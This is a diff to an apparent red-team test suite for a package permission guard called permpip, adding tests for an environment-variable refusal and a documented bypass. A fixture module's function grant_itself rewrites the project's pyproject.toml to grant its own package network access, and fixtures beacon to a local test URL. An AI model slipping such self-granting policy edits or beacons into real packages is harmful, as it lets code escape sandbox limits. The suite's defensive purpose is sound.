@@ -36,7 +36,7 @@ import pytest
 from gate._subprocess import run as run_process
 from tests.builders import build_wheel
 from tests.conftest import create_venv, make_hermetic_env
-from tests.runtime.conftest import RunPermpip, Target
+from tests.runtime.conftest import RunPermpip, Target, read_report
 from tests.runtime.test_guard_redteam import Outcome
 from tests.runtime.test_guard_redteam4 import LOCAL, RawProxy
 from tests.runtime.test_guard_redteam4 import proxy as proxy  # noqa: F401 - the fixture
@@ -357,6 +357,15 @@ EVIL = {
         beacon(os.environ.get("TARGET_URL", "http://127.0.0.1:9/"), "startup")
         class Boot(Warning):
             pass
+        """,
+    "evil/policy.py": """\
+        def grant_itself():
+            # the run's working directory: the project, whose pyproject.toml is the policy
+            with open("pyproject.toml", "r+") as f:
+                text = f.read()
+                f.seek(0)
+                f.write(text.replace('evil = ["fs-write"]', 'evil = ["fs-write", "network"]'))
+                f.truncate()
         """,
     # -- 5. hosts ----------------------------------------------------------------------------------
     "evil/tls.py": """\
@@ -791,6 +800,47 @@ def test_warning_options_import_the_package_before_the_guard(
         target=target, grant='["env"]', enforce=True)
     took_effect(target.requests == ["/beacon?startup"] and "worker ran" in o.output, o)
     assert ("evil", "network") in o.used or ("evil", "guard") in o.used
+
+
+def test_warning_options_without_an_env_grant(tmp_path: Path, target: Target,
+                                             run_permpip: RunPermpip, python: Path) -> None:
+    """The previous vector needs ``env``: without it the change is refused, and the child
+    imports nothing of evil's."""
+    o = run(tmp_path, run_permpip, python, (
+        "import subprocess, sys, evil.warn\n"
+        "try:\n"
+        "    evil.warn.arm()\n"
+        "except PermissionError as exc:\n"
+        "    print('refused:', exc)\n"
+        "subprocess.run([sys.executable, '-c', 'print(\"worker ran\")'], check=True)\n"),
+        target=target, enforce=True)
+    assert target.requests == [] and "worker ran" in o.output, o.output
+    v = violation(o, "env")
+    assert (v["package"], v["phase"], v["event"]) == ("evil", "runtime", "os.environ")
+    assert o.used == [("evil", "env")]
+
+
+@bypass5("guard tampering", "the policy's source (the project's pyproject.toml, or --policy "
+         "FILE) is an ordinary file to the guard: a package granted fs-write edits its own "
+         "grant, and the next permpip run holds the edited policy (here: network); the "
+         "guard's compiled policy.bin is protected, its input is not; fix: take the policy "
+         "file's device and inode at start with the guard's files (a write, rename or "
+         "truncate of it is guard, in every mode)")
+def test_rewriting_the_policy_for_the_next_run(tmp_path: Path, target: Target,
+                                               run_permpip: RunPermpip, python: Path) -> None:
+    first = run(tmp_path, run_permpip, python, "import evil.policy\n"
+                "evil.policy.grant_itself()\n", grant='["fs-write"]', enforce=True)
+    project = tmp_path / "project"
+    took_effect('evil = ["fs-write", "network"]' in (project / "pyproject.toml").read_text(),
+                first)
+    (project / "main2.py").write_text("import os, evil.net\n"
+                                      "evil.net.beacon(os.environ['TARGET_URL'])\n")
+    out = project / "report2.json"
+    done = run_permpip("run", "--enforce", "--format", "json", "--output", str(out), "--",
+                       str(python), "main2.py", cwd=project, env={"TARGET_URL": target.url})
+    second = Outcome(done.returncode, read_report(out), done.stdout + done.stderr, out)
+    took_effect(target.requests == ["/beacon?beacon"], second)
+    assert ("evil", "guard") in first.used, first.report
 
 
 @bypass5("child escape", "the application's os.posix_spawn (or os.exec*, os.spawn*) with an "
